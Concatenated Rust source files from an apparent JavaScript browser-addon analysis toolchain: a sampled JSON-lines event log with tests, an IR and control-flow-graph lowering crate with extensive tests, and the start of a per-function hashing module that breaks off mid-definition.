    fn admit(&self, inner: &mut Inner, idx: usize, ts_us: u64) -> Admit {
        let policy = self.sample.as_ref().expect("admit without a policy");
        let window_us = u64::try_from(policy.window.as_micros()).unwrap_or(u64::MAX);
        let rolled = ts_us.saturating_sub(inner.samplers[idx].window_start_us) >= window_us;
        if rolled {
            let pending = std::mem::take(&mut inner.samplers[idx].pending_suppressed);
            inner.samplers[idx].window_start_us = ts_us;
            inner.samplers[idx].seen_in_window = 0;
            if pending > 0 {
                self.write_suppressed(inner, ts_us, idx, pending);
            }
        }
        inner.samplers[idx].seen_in_window += 1;
        let seen = inner.samplers[idx].seen_in_window;
        if seen <= policy.threshold {
            return Admit::Full;
        }
        let past = seen - policy.threshold;
        if (past - 1) % policy.rate_of(idx) != 0 {
            inner.samplers[idx].pending_suppressed += 1;
            inner.samplers[idx].total_suppressed += 1;
            return Admit::Suppressed;
        }
        // Declare the drops *before* the kept record, so any log prefix
        // ending at a kept record already carries its full budget.
        let pending = std::mem::take(&mut inner.samplers[idx].pending_suppressed);
        if pending > 0 {
            self.write_suppressed(inner, ts_us, idx, pending);
        }
        Admit::Sampled
    }

    /// Appends one record. `fields` are emitted after the standard
    /// `seq`/`ts_us`/`level`/`event` header, in the given order. Events
    /// named by the sampling policy may instead be counted and dropped
    /// (see [`SamplePolicy`]); suppressed events consume no `seq`.
    pub fn log(&self, level: Level, event: &str, fields: &[(&str, Json)]) {
        if !self.enabled(level) {
            return;
        }
        let ts_us = self.now_ts_us();
        let mut inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        let sampler = self
            .sample
            .as_ref()
            .and_then(|p| p.events.iter().position(|e| e == event));
        let sampled = match sampler {
            None => false,
            Some(idx) => match self.admit(&mut inner, idx, ts_us) {
                Admit::Full => false,
                Admit::Sampled => true,
                Admit::Suppressed => return,
            },
        };
        self.write_record(&mut inner, ts_us, level, event, fields, sampled);
    }

    /// Convenience: an error-level record.
    pub fn error(&self, event: &str, fields: &[(&str, Json)]) {
        self.log(Level::Error, event, fields);
    }

    /// Convenience: a warn-level record.
    pub fn warn(&self, event: &str, fields: &[(&str, Json)]) {
        self.log(Level::Warn, event, fields);
    }

    /// Convenience: an info-level record.
    pub fn info(&self, event: &str, fields: &[(&str, Json)]) {
        self.log(Level::Info, event, fields);
    }

    /// Convenience: a debug-level record.
    pub fn debug(&self, event: &str, fields: &[(&str, Json)]) {
        self.log(Level::Debug, event, fields);
    }

    /// The ring tail as parsed records, oldest first (unparseable lines
    /// — there should be none — surface as plain strings).
    pub fn tail(&self) -> Vec<Json> {
        let inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        inner
            .ring
            .iter()
            .map(|line| Json::parse(line).unwrap_or_else(|_| Json::Str(line.clone())))
            .collect()
    }

    /// The ring tail as raw compact JSON lines, oldest first.
    pub fn tail_lines(&self) -> Vec<String> {
        let inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        inner.ring.iter().cloned().collect()
    }

    /// Number of records emitted so far (at any level).
    pub fn records_written(&self) -> u64 {
        self.inner.lock().unwrap_or_else(|e| e.into_inner()).seq
    }

    /// Flushes the file sink, if any, after declaring any sampling drops
    /// not yet covered by a `suppressed` record — so a flushed log
    /// always reconciles exactly. Writes already flush per line; this
    /// exists for shutdown paths.
    pub fn flush(&self) {
        let ts_us = self.now_ts_us();
        let mut inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        if self.sample.is_some() {
            for idx in 0..inner.samplers.len() {
                let pending = std::mem::take(&mut inner.samplers[idx].pending_suppressed);
                if pending > 0 {
                    self.write_suppressed(&mut inner, ts_us, idx, pending);
                }
            }
        }
        if let Some(file) = &mut inner.file {
            let _ = file.flush();
        }
    }
}

/// A [`sigtrace::Tracer`] that logs the pipeline's phase spans as
/// debug-level events carrying the owning job's request ID — the bridge
/// that threads sigserve's job IDs into the analysis pipeline.
///
/// Counter deltas are deliberately ignored here: they already flow into
/// the daemon's `MetricsRegistry` via the engine, and duplicating them
/// per job would bloat the log.
pub struct LogTracer<'a> {
    log: &'a EventLog,
    job: &'a str,
    /// Open spans, outermost first: (name, start).
    open: Vec<(String, Instant)>,
}

impl<'a> LogTracer<'a> {
    /// A tracer logging spans on behalf of job `job`.
    pub fn new(log: &'a EventLog, job: &'a str) -> LogTracer<'a> {
        LogTracer {
            log,
            job,
            open: Vec::new(),
        }
    }
}

impl sigtrace::Tracer for LogTracer<'_> {
    fn span_start(&mut self, name: &str) {
        self.open.push((name.to_owned(), Instant::now()));
    }

    fn span_end(&mut self, name: &str) {
        let Some(pos) = self.open.iter().rposition(|(n, _)| n == name) else {
            return; // tolerate protocol slips, like SpanCollector
        };
        let (name, start) = self.open.remove(pos);
        let dur_us = u64::try_from(start.elapsed().as_micros()).unwrap_or(u64::MAX);
        let depth = pos as f64;
        self.log.debug(
            "span",
            &[
                ("job", Json::from(self.job)),
                ("span", Json::from(name)),
                ("depth", Json::from(depth)),
                ("dur_us", Json::from(dur_us as f64)),
            ],
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sigtrace::Tracer as _;

    #[test]
    fn level_ordering_and_parse() {
        assert!(Level::Error < Level::Warn);
        assert!(Level::Warn < Level::Info);
        assert!(Level::Info < Level::Debug);
        for l in [Level::Error, Level::Warn, Level::Info, Level::Debug] {
            assert_eq!(Level::parse(l.name()), Some(l));
        }
        assert_eq!(Level::parse("verbose"), None);
    }

    #[test]
    fn records_carry_header_and_fields_in_order() {
        let log = EventLog::in_memory(Level::Info);
        log.info("job_enqueued", &[("job", Json::from("j-1")), ("depth", Json::from(2.0))]);
        let tail = log.tail();
        assert_eq!(tail.len(), 1);
        let r = &tail[0];
        assert_eq!(r["seq"].as_f64(), Some(0.0));
        assert_eq!(r["level"], "info");
        assert_eq!(r["event"], "job_enqueued");
        assert_eq!(r["job"], "j-1");
        assert_eq!(r["depth"].as_f64(), Some(2.0));
        assert!(r["ts_us"].as_f64().is_some());
        // Compact single-line form.
        assert!(!log.tail_lines()[0].contains('\n'));
    }

    #[test]
    fn level_filter_drops_below_threshold() {
        let log = EventLog::in_memory(Level::Warn);
        assert!(log.enabled(Level::Error));
        assert!(log.enabled(Level::Warn));
        assert!(!log.enabled(Level::Info));
        log.error("e", &[]);
        log.warn("w", &[]);
        log.info("i", &[]);
        log.debug("d", &[]);
        let events: Vec<String> = log
            .tail()
            .iter()
            .map(|r| r["event"].as_str().unwrap().to_owned())
            .collect();
        assert_eq!(events, ["e", "w"]);
        assert_eq!(log.records_written(), 2);
    }

    #[test]
    fn ring_is_bounded_and_seq_is_monotone() {
        let log = EventLog::in_memory(Level::Info).with_tail_cap(3);
        for i in 0..10 {
            log.info("tick", &[("i", Json::from(i as f64))]);
        }
        let tail = log.tail();
        assert_eq!(tail.len(), 3, "ring keeps only the newest records");
        let seqs: Vec<f64> = tail.iter().map(|r| r["seq"].as_f64().unwrap()).collect();
        assert_eq!(seqs, [7.0, 8.0, 9.0]);
        assert_eq!(log.records_written(), 10);
    }

    #[test]
    fn file_sink_writes_parseable_jsonl() {
        let path = std::env::temp_dir().join(format!(
            "sigobs-test-{}-{}.jsonl",
            std::process::id(),
            std::time::SystemTime::now()
                .duration_since(UNIX_EPOCH)
                .unwrap()
                .as_nanos()
        ));
        let log = EventLog::to_file(&path, Level::Debug).expect("create log");
        log.info("a", &[("k", Json::from("v"))]);
        log.debug("b", &[]);
        log.flush();
        let text = std::fs::read_to_string(&path).expect("read back");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2);
        for line in &lines {
            let r = Json::parse(line).expect("every line parses");
            assert!(r["event"].as_str().is_some());
        }
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn log_tracer_emits_debug_spans_with_job_id() {
        let log = EventLog::in_memory(Level::Debug);
        let mut t = LogTracer::new(&log, "j-42");
        t.span_start("phase1");
        t.span_start("fixpoint");
        t.span_end("fixpoint");
        t.span_end("phase1");
        t.span_end("never-opened"); // tolerated
        let tail = log.tail();
        assert_eq!(tail.len(), 2, "one record per closed span");
        assert_eq!(tail[0]["event"], "span");
        assert_eq!(tail[0]["span"], "fixpoint");
        assert_eq!(tail[0]["depth"].as_f64(), Some(1.0));
        assert_eq!(tail[0]["job"], "j-42");
        assert_eq!(tail[1]["span"], "phase1");
        assert_eq!(tail[1]["depth"].as_f64(), Some(0.0));
    }

    fn events_of(log: &EventLog) -> Vec<(String, Option<f64>)> {
        log.tail()
            .iter()
            .map(|r| {
                (
                    r["event"].as_str().unwrap().to_owned(),
                    r["count"].as_f64(),
                )
            })
            .collect()
    }

    #[test]
    fn sampling_keeps_threshold_then_one_in_n_with_declared_drops() {
        let log = EventLog::in_memory(Level::Warn).with_sampling(SamplePolicy {
            events: vec!["job_rejected".to_owned()],
            threshold: 2,
            keep_one_in: 3,
            rates: vec![],
            window: Duration::from_secs(3600), // never rolls mid-test
        });
        for i in 0..12 {
            log.warn("job_rejected", &[("i", Json::from(i as f64))]);
        }
        log.flush();
        // 12 occurrences: 2 full, then positions 1,4,7,10 past the
        // threshold are kept (1-in-3); 6 are suppressed, declared in
        // `suppressed` records of 2 each *before* the following kept
        // record (nothing left pending for flush()).
        let events = events_of(&log);
        let expected: Vec<(String, Option<f64>)> = [
            ("job_rejected", None),
            ("job_rejected", None),
            ("job_rejected", None), // past-threshold position 1 (no drops yet)
            ("suppressed", Some(2.0)),
            ("job_rejected", None), // position 4
            ("suppressed", Some(2.0)),
            ("job_rejected", None), // position 7
            ("suppressed", Some(2.0)),
            ("job_rejected", None), // position 10
        ]
        .iter()
        .map(|(e, c)| (e.to_string(), *c))
        .collect();
        assert_eq!(events, expected);
        assert_eq!(log.suppressed_total("job_rejected"), 6);
        // Kept sampled records carry the marker; full ones do not.
        let tail = log.tail();
        assert_eq!(tail[0]["sampled"], Json::Null);
        assert_eq!(tail[2]["sampled"], Json::Bool(true));
        // seq stays gap-free even though 6 events vanished.
        let seqs: Vec<f64> = tail.iter().map(|r| r["seq"].as_f64().unwrap()).collect();
        assert_eq!(seqs, (0..9).map(|i| i as f64).collect::<Vec<_>>());
    }

    #[test]
    fn sampling_window_roll_resets_the_threshold() {
        let log = EventLog::in_memory(Level::Warn).with_sampling(SamplePolicy {
            events: vec!["job_rejected".to_owned()],
            threshold: 1,
            keep_one_in: 100,
            rates: vec![],
            window: Duration::from_millis(40),
        });
        log.warn("job_rejected", &[]); // full (1st in window)
        log.warn("job_rejected", &[]); // kept, sampled (position 1)
        log.warn("job_rejected", &[]); // suppressed
        std::thread::sleep(Duration::from_millis(60));
        log.warn("job_rejected", &[]); // new window: declares 1 drop, then full
        let events = events_of(&log);
        let names: Vec<&str> = events.iter().map(|(e, _)| e.as_str()).collect();
        assert_eq!(
            names,
            ["job_rejected", "job_rejected", "suppressed", "job_rejected"]
        );
        assert_eq!(events[2].1, Some(1.0), "the roll declared the pending drop");
        assert_eq!(log.suppressed_total("job_rejected"), 1);
    }

    #[test]
    fn per_event_rates_sample_each_stream_at_its_own_rate() {
        // job_rejected at the default 1-in-3, span retuned to 1-in-5:
        // past the shared threshold each stream keeps and declares at
        // its own rate, and `suppressed` records advertise that rate.
        let policy = SamplePolicy {
            events: vec!["job_rejected".to_owned()],
            threshold: 1,
            keep_one_in: 3,
            rates: vec![],
            window: Duration::from_secs(3600),
        }
        .with_rule("span", 5);
        assert_eq!(policy.rate_of(0), 3, "default rate covers job_rejected");
        assert_eq!(policy.rate_of(1), 5, "explicit span rule wins");
        let log = EventLog::in_memory(Level::Debug).with_sampling(policy);
        for _ in 0..16 {
            log.warn("job_rejected", &[]);
            log.log(Level::Debug, "span", &[]);
        }
        log.flush();
        // 16 each: 1 full, then 15 past threshold -> ceil(15/3)=5 kept
        // rejections (10 suppressed), ceil(15/5)=3 kept spans (12
        // suppressed).
        assert_eq!(log.suppressed_total("job_rejected"), 10);
        assert_eq!(log.suppressed_total("span"), 12);
        let declared_rates: Vec<(String, f64)> = log
            .tail()
            .iter()
            .filter(|r| r["event"].as_str() == Some("suppressed"))
            .map(|r| {
                (
                    r["suppressed_event"].as_str().unwrap().to_owned(),
                    r["sample_every"].as_f64().unwrap(),
                )
            })
            .collect();
        assert!(declared_rates.contains(&("job_rejected".to_owned(), 3.0)));
        assert!(declared_rates.contains(&("span".to_owned(), 5.0)));
    }

    #[test]
    fn sampling_leaves_unlisted_events_alone() {
        let log = EventLog::in_memory(Level::Info).with_sampling(SamplePolicy {
            events: vec!["job_rejected".to_owned()],
            threshold: 0,
            keep_one_in: 1000,
            rates: vec![],
            window: Duration::from_secs(3600),
        });
        for _ in 0..50 {
            log.info("job_enqueued", &[]);
        }
        assert_eq!(log.records_written(), 50, "unlisted events never sampled");
        assert_eq!(log.suppressed_total("job_enqueued"), 0);
    }

    #[test]
    fn log_tracer_is_silent_below_debug() {
        let log = EventLog::in_memory(Level::Info);
        let mut t = LogTracer::new(&log, "j-1");
        t.span_start("phase1");
        t.span_end("phase1");
        assert!(log.tail().is_empty());
    }
}
