//! Flat intermediate representation and control-flow graphs for addon-sig.
//!
//! Lowers the `jsparser` AST into a statement-level IR in which every
//! statement performs at most one variable or property write (mirroring
//! JSAI's notJS form), together with a CFG whose edges are *kinded* by
//! provenance -- sequential/branch (local control), `break`/`continue`/
//! `return`/`throw` (non-local explicit), and implicit exceptions
//! (non-local implicit). The kinds drive the staged control-dependence
//! construction of Section 3.3 of the paper.
//!
//! # Examples
//!
//! ```
//! use jsir::{lower_with_options, LowerOptions};
//!
//! let ast = jsparser::parse("var x = 1; if (x) { x = 2; }")?;
//! let lowered = lower_with_options(&ast, &LowerOptions { event_loop: false });
//! assert!(lowered.program.stmt_count() > 4);
//! assert!(lowered.cfg.edge_count() > 3);
//! # Ok::<(), jsparser::ParseError>(())
//! ```

#![warn(missing_docs)]

pub mod cfg;
pub mod hash;
pub mod ir;
mod lower;
pub mod pretty;

pub use cfg::{Cfg, Edge, EdgeKind};
pub use ir::{
    IrFunc, IrFuncId, IrProgram, IrStmt, IrStmtKind, Operand, Place, StmtId, VarId, VarInfo,
};
pub use lower::{lower, lower_with_options, LowerOptions, Lowered};

use std::collections::BTreeSet;

/// Adds the *implicit exception* edges to a CFG: for every statement in
/// `may_throw` an edge to its innermost handler
/// ([`EdgeKind::ThrowImplicit`]) or, with no handler, to the function exit
/// ([`EdgeKind::Uncaught`], which every CDG stage ignores -- the paper
/// omits uncaught-exception control dependence).
///
/// `may_throw` is computed by the base analysis (`jsanalysis`): statically
/// a property access may throw only when the base analysis says the object
/// may be `undefined`/`null`, and a call only when the callee may be a
/// non-function.
pub fn add_implicit_throw_edges(
    program: &IrProgram,
    cfg: &mut Cfg,
    may_throw: &BTreeSet<StmtId>,
) {
    for &sid in may_throw {
        let stmt = program.stmt(sid);
        match stmt.handler {
            Some(h) => cfg.add_edge(sid, h, EdgeKind::ThrowImplicit),
            None => {
                let exit = program.func(stmt.func).exit;
                cfg.add_edge(sid, exit, EdgeKind::Uncaught);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower::LowerOptions;

    fn lowered(src: &str) -> Lowered {
        lower_with_options(
            &jsparser::parse(src).unwrap(),
            &LowerOptions { event_loop: false },
        )
    }

    fn lowered_with_events(src: &str) -> Lowered {
        lower(&jsparser::parse(src).unwrap())
    }

    /// Statements of the top level reachable from its entry.
    fn reachable_kinds(l: &Lowered) -> Vec<String> {
        let top = l.program.top_level();
        let reach = l.cfg.reachable_from(top.entry);
        top.stmts
            .iter()
            .filter(|s| reach.contains(s))
            .map(|s| format!("{:?}", l.program.stmt(*s).kind))
            .collect()
    }

    #[test]
    fn straight_line_chain() {
        let l = lowered("var a = 1; var b = a;");
        let top = l.program.top_level();
        // enter -> copy -> copy -> exit, connected.
        let reach = l.cfg.reachable_from(top.entry);
        assert!(reach.contains(&top.exit));
        assert_eq!(top.stmts.len(), 4);
    }

    #[test]
    fn if_produces_branch_edges() {
        let l = lowered("if (x) { y = 1; } else { y = 2; }");
        let branches: Vec<_> = l
            .cfg
            .edges()
            .filter(|e| matches!(e.kind, EdgeKind::BranchTrue | EdgeKind::BranchFalse))
            .collect();
        assert_eq!(branches.len(), 2);
    }

    #[test]
    fn while_loop_has_cycle() {
        let l = lowered("while (c) { x = x + 1; }");
        assert!(!l.cfg.nodes_in_cycles().is_empty());
    }

    #[test]
    fn break_leaves_loop_with_jump_edge() {
        let l = lowered("while (c) { break; } after();");
        assert!(l.cfg.edges().any(|e| e.kind == EdgeKind::Jump));
        // The statement after the loop is reachable.
        let top = l.program.top_level();
        let reach = l.cfg.reachable_from(top.entry);
        assert!(reach.contains(&top.exit));
    }

    #[test]
    fn continue_jumps_to_header() {
        let l = lowered("while (c) { if (d) continue; work(); }");
        let jumps: Vec<_> = l
            .cfg
            .edges()
            .filter(|e| e.kind == EdgeKind::Jump)
            .collect();
        assert_eq!(jumps.len(), 1);
        // Target must be the while-header nop.
        let target = l.program.stmt(jumps[0].to);
        assert!(matches!(target.kind, IrStmtKind::Nop("while-header")));
    }

    #[test]
    fn labeled_break_escapes_outer_loop() {
        let l = lowered(
            "outer: while (a) { while (b) { break outer; } } after();",
        );
        let top = l.program.top_level();
        let reach = l.cfg.reachable_from(top.entry);
        assert!(reach.contains(&top.exit));
        assert!(l.cfg.edges().any(|e| e.kind == EdgeKind::Jump));
    }

    #[test]
    fn labeled_continue_on_for_loop() {
        let l = lowered("outer: for (i = 0; i < 3; i++) { for (;;) { continue outer; } }");
        // continue outer must reach the for's update, keeping exit reachable.
        let top = l.program.top_level();
        let reach = l.cfg.reachable_from(top.entry);
        assert!(reach.contains(&top.exit));
    }

    #[test]
    fn do_while_continue_reaches_condition() {
        let l = lowered("do { if (x) continue; f(); } while (c);");
        let top = l.program.top_level();
        let reach = l.cfg.reachable_from(top.entry);
        assert!(reach.contains(&top.exit));
        assert!(!l.cfg.nodes_in_cycles().is_empty());
    }

    #[test]
    fn return_produces_return_edge() {
        let l = lowered("function f() { return 1; } f();");
        assert!(l.cfg.edges().any(|e| e.kind == EdgeKind::Return));
        // The return edge targets f's exit.
        let f = l.program.funcs.iter().find(|f| f.name == "f").unwrap();
        let ret_edge = l
            .cfg
            .edges()
            .find(|e| e.kind == EdgeKind::Return)
            .unwrap();
        assert_eq!(ret_edge.to, f.exit);
    }

    #[test]
    fn throw_with_catch_gets_explicit_edge() {
        let l = lowered("try { throw 'x'; } catch (e) { handle(e); }");
        let explicit: Vec<_> = l
            .cfg
            .edges()
            .filter(|e| e.kind == EdgeKind::ThrowExplicit)
            .collect();
        assert_eq!(explicit.len(), 1);
        let target = l.program.stmt(explicit[0].to);
        assert!(matches!(target.kind, IrStmtKind::CatchBind { .. }));
    }

    #[test]
    fn uncaught_throw_gets_uncaught_edge() {
        let l = lowered("throw 'boom';");
        assert!(l.cfg.edges().any(|e| e.kind == EdgeKind::Uncaught));
    }

    #[test]
    fn try_statements_record_handler() {
        let l = lowered("try { f(); } catch (e) { g(); } h();");
        let prog = &l.program;
        let with = prog.stmts.iter().filter(|s| {
            matches!(s.kind, IrStmtKind::Call { .. }) && s.handler.is_some()
        });
        let without = prog.stmts.iter().filter(|s| {
            matches!(s.kind, IrStmtKind::Call { .. }) && s.handler.is_none()
        });
        assert!(with.count() >= 1);
        assert!(without.count() >= 2, "g() in catch and h() have no handler");
    }

    #[test]
    fn finally_without_catch_duplicates_block() {
        let l = lowered("try { f(); } finally { fin(); } after();");
        // fin() is called twice (normal + exceptional path).
        let fin_calls = l
            .program
            .stmts
            .iter()
            .filter(|s| match &s.kind {
                IrStmtKind::Call { callee, .. } => {
                    matches!(callee, Operand::Place(Place::Global(g)) if g == "fin")
                }
                _ => false,
            })
            .count();
        assert_eq!(fin_calls, 2);
    }

    #[test]
    fn implicit_edges_added_to_handler() {
        let l = lowered("try { obj.prop = 1; } catch (x) { k(); }");
        let mut cfg = l.cfg.clone();
        let store = l
            .program
            .stmts
            .iter()
            .find(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
            .unwrap();
        let mut may_throw = BTreeSet::new();
        may_throw.insert(store.id);
        let before = cfg.edge_count();
        add_implicit_throw_edges(&l.program, &mut cfg, &may_throw);
        assert_eq!(cfg.edge_count(), before + 1);
        assert!(cfg.edges().any(|e| e.kind == EdgeKind::ThrowImplicit));
    }

    #[test]
    fn implicit_edges_without_handler_are_uncaught() {
        let l = lowered("obj.prop = 1;");
        let mut cfg = l.cfg.clone();
        let store = l
            .program
            .stmts
            .iter()
            .find(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
            .unwrap();
        let mut may_throw = BTreeSet::new();
        may_throw.insert(store.id);
        add_implicit_throw_edges(&l.program, &mut cfg, &may_throw);
        assert!(cfg.edges().any(|e| e.kind == EdgeKind::Uncaught));
        assert!(!cfg.edges().any(|e| e.kind == EdgeKind::ThrowImplicit));
    }

    #[test]
    fn switch_with_fallthrough_and_default() {
        let l = lowered(
            "switch (x) { case 1: a(); case 2: b(); break; default: c(); } after();",
        );
        let top = l.program.top_level();
        let reach = l.cfg.reachable_from(top.entry);
        assert!(reach.contains(&top.exit));
        // Fallthrough: a() body flows into b() body; there is a Jump (break).
        assert!(l.cfg.edges().any(|e| e.kind == EdgeKind::Jump));
    }

    #[test]
    fn logical_and_short_circuits() {
        let l = lowered("var r = a && b;");
        assert!(l.cfg.edges().any(|e| e.kind == EdgeKind::BranchTrue));
        assert!(l.cfg.edges().any(|e| e.kind == EdgeKind::BranchFalse));
    }

    #[test]
    fn closures_resolve_outer_variables() {
        let l = lowered("function outer() { var x = 1; function inner() { return x; } }");
        let inner = l.program.funcs.iter().find(|f| f.name == "inner").unwrap();
        let outer = l.program.funcs.iter().find(|f| f.name == "outer").unwrap();
        // inner's return reads outer's x.
        let ret = inner
            .stmts
            .iter()
            .map(|s| l.program.stmt(*s))
            .find(|s| matches!(s.kind, IrStmtKind::Return { .. }))
            .unwrap();
        match &ret.kind {
            IrStmtKind::Return { value: Operand::Place(Place::Var(v)) } => {
                assert_eq!(v.func, outer.id, "x resolves to outer's frame");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn unresolved_names_are_globals() {
        let l = lowered("send(payload);");
        let call = l
            .program
            .stmts
            .iter()
            .find(|s| matches!(s.kind, IrStmtKind::Call { .. }))
            .unwrap();
        match &call.kind {
            IrStmtKind::Call { callee, args, .. } => {
                assert!(
                    matches!(callee, Operand::Place(Place::Global(g)) if g == "send")
                );
                assert!(
                    matches!(&args[0], Operand::Place(Place::Global(g)) if g == "payload")
                );
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn var_hoisting_within_function() {
        // `x` assigned before its `var` is still function-local.
        let l = lowered("function f() { x = 1; var x; }");
        let f = l.program.funcs.iter().find(|f| f.name == "f").unwrap();
        let copy = f
            .stmts
            .iter()
            .map(|s| l.program.stmt(*s))
            .find(|s| matches!(s.kind, IrStmtKind::Copy { .. }))
            .unwrap();
        match &copy.kind {
            IrStmtKind::Copy { dst: Place::Var(v), .. } => assert_eq!(v.func, f.id),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn function_decls_hoisted_to_entry() {
        let l = lowered("g(); function g() {}");
        let top = l.program.top_level();
        // Lambda must come before the call in statement order.
        let order: Vec<_> = top
            .stmts
            .iter()
            .map(|s| &l.program.stmt(*s).kind)
            .collect();
        let lambda_pos = order
            .iter()
            .position(|k| matches!(k, IrStmtKind::Lambda { .. }))
            .unwrap();
        let call_pos = order
            .iter()
            .position(|k| matches!(k, IrStmtKind::Call { .. }))
            .unwrap();
        assert!(lambda_pos < call_pos);
    }

    #[test]
    fn event_loop_appended() {
        let l = lowered_with_events("var x = 1;");
        assert!(l.event_dispatch.is_some());
        let d = l.event_dispatch.unwrap();
        // The dispatch statement is on a cycle.
        assert!(l.cfg.nodes_in_cycles().contains(&d));
        let text = reachable_kinds(&l).join("\n");
        assert!(text.contains("EventDispatch"));
    }

    #[test]
    fn no_event_loop_without_option() {
        let l = lowered("var x = 1;");
        assert!(l.event_dispatch.is_none());
    }

    #[test]
    fn for_in_lowering() {
        let l = lowered("for (var k in obj) { use(k); }");
        assert!(l
            .program
            .stmts
            .iter()
            .any(|s| matches!(s.kind, IrStmtKind::ForInNext { .. })));
        assert!(!l.cfg.nodes_in_cycles().is_empty());
    }

    #[test]
    fn object_literal_stores_props() {
        let l = lowered("var o = { url: u, n: 1 };");
        let stores = l
            .program
            .stmts
            .iter()
            .filter(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
            .count();
        assert_eq!(stores, 2);
    }

    #[test]
    fn array_literal_stores_elements_and_length() {
        let l = lowered("var a = [x, y];");
        let stores = l
            .program
            .stmts
            .iter()
            .filter(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
            .count();
        assert_eq!(stores, 3); // "0", "1", "length"
    }

    #[test]
    fn method_call_has_receiver() {
        let l = lowered("request.send(data);");
        let call = l
            .program
            .stmts
            .iter()
            .find(|s| matches!(s.kind, IrStmtKind::Call { .. }))
            .unwrap();
        match &call.kind {
            IrStmtKind::Call { this: Some(_), .. } => {}
            other => panic!("method call should carry this: {other:?}"),
        }
    }

    #[test]
    fn compound_member_assignment_loads_then_stores() {
        let l = lowered("o.count += 1;");
        assert!(l
            .program
            .stmts
            .iter()
            .any(|s| matches!(s.kind, IrStmtKind::LoadProp { .. })));
        assert!(l
            .program
            .stmts
            .iter()
            .any(|s| matches!(s.kind, IrStmtKind::StoreProp { .. })));
    }

    #[test]
    fn update_expression_value() {
        let l = lowered("var j = i++;");
        let has_add = l.program.stmts.iter().any(|s| {
            matches!(
                s.kind,
                IrStmtKind::BinOp {
                    op: jsparser::ast::BinaryOp::Add,
                    ..
                }
            )
        });
        assert!(has_add);
    }

    #[test]
    fn delete_lowered() {
        let l = lowered("delete obj.p;");
        assert!(l
            .program
            .stmts
            .iter()
            .any(|s| matches!(s.kind, IrStmtKind::DeleteProp { .. })));
    }

    #[test]
    fn typeof_uses_dedicated_statement() {
        let l = lowered("var t = typeof maybeUndeclared;");
        assert!(l
            .program
            .stmts
            .iter()
            .any(|s| matches!(s.kind, IrStmtKind::Typeof { .. })));
    }

    #[test]
    fn named_function_expression_self_reference() {
        let l = lowered("var f = function rec(n) { return rec(n); };");
        let rec = l.program.funcs.iter().find(|f| f.name == "rec").unwrap();
        // `rec` inside the body resolves to rec's own frame, not global.
        let call = rec
            .stmts
            .iter()
            .map(|s| l.program.stmt(*s))
            .find(|s| matches!(s.kind, IrStmtKind::Call { .. }))
            .unwrap();
        match &call.kind {
            IrStmtKind::Call { callee: Operand::Place(Place::Var(v)), .. } => {
                assert_eq!(v.func, rec.id);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn figure1_lowering_smoke() {
        let src = r#"
var data = { url: doc.loc };
send(data.url);
send(data[getString()]);
func();
if (doc.loc == "secret.com")
  send(null);
var arr = ["covert.com", "priv.com"];
var i = 0, count = 0;
while (arr[i] && doc.loc != arr[i]) {
  i++;
  count++;
}
send(count);
try {
  if (doc.loc != "hush-hush.com")
    throw "irrelevant";
  send(null);
} catch (x) {};
try {
  if (doc.loc != "mystic.com")
    obj.prop = 1;
  send(null);
} catch (x) {}
"#;
        let l = lowered(src);
        let top = l.program.top_level();
        let reach = l.cfg.reachable_from(top.entry);
        assert!(reach.contains(&top.exit));
        assert!(l.cfg.edges().any(|e| e.kind == EdgeKind::ThrowExplicit));
        assert!(!l.cfg.nodes_in_cycles().is_empty());
    }
}
