//! Stable, relocatable per-function hashing over the lowered IR.
//!
//! The incremental re-vetting layer keys per-function analysis summaries
//! by *what a function means*, not *where it sits in the statement pool*:
//! inserting a function (or editing an unrelated one) renumbers every
//! later [`StmtId`], so raw ids cannot appear in a content hash. Instead
//! each function is rendered into a canonical byte stream in which
//!
//! - statements are identified by their **offset inside the function**
//!   (position in [`IrFunc::stmts`]), including CFG successor edges and
//!   exception-handler links;
//! - variable references are function-relative: a captured outer variable
//!   is rendered as `(lexical ancestor depth, slot index)`;
//! - a [`IrStmtKind::Lambda`] names its child by **lexical ordinal** (the
//!   n-th lambda statement of this function), *not* by the child's
//!   content — editing a callee must not change its callers' own hashes
//!   (the transitive invalidation rule lives in the summary layer);
//! - source spans are excluded, so pure reformatting keeps hashes stable
//!   (witness line numbers are re-derived from the fresh parse).
//!
//! [`FuncManifest`] pairs every function's hash with an occurrence index
//! (duplicate function bodies are disambiguated in id order), giving both
//! directions of the translation the summary layer needs: warm lookups
//! (`(hash, occ)` → [`IrFuncId`]) and stable serialization
//! ([`StmtId`] → `(function, offset)`).

use crate::cfg::EdgeKind;
use crate::ir::{IrFunc, IrFuncId, IrStmtKind, Operand, Place, StmtId, VarId};
use crate::lower::Lowered;
use std::collections::HashMap;

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

/// Incremental FNV-1a writer for the canonical function rendering.
struct Hasher(u64);

impl Hasher {
    fn new() -> Hasher {
        Hasher(FNV_OFFSET)
    }

    fn bytes(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 ^= u64::from(b);
            self.0 = self.0.wrapping_mul(FNV_PRIME);
        }
    }

    fn str(&mut self, s: &str) {
        // Length prefix prevents boundary collisions between fields.
        self.bytes(&(s.len() as u32).to_le_bytes());
        self.bytes(s.as_bytes());
    }

    fn u32(&mut self, v: u32) {
        self.bytes(&v.to_le_bytes());
    }

    fn tag(&mut self, t: u8) {
        self.bytes(&[t]);
    }
}

/// Where a statement lives: its function and its offset inside that
/// function's [`IrFunc::stmts`] list.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StmtRef {
    /// Owning function.
    pub func: IrFuncId,
    /// Position within the owning function's statement list.
